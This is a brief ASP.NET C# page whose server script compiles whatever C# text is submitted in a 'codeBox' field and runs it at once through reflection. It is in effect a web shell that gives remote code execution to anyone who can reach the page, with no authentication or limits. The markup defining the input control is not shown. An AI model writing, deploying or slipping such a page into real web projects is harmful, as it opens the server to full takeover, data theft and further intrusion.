<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<script runat="server">
void Build(object s, EventArgs e) {
    var provider = new Microsoft.CSharp.CSharpCodeProvider();
    var opts = new CompilerParameters { GenerateInMemory = true };
    CompilerResults res = provider.CompileAssemblyFromSource(opts, codeBox.Text);
    res.CompiledAssembly.GetType("Snippet").GetMethod("Run").Invoke(null, null);
}
</script>
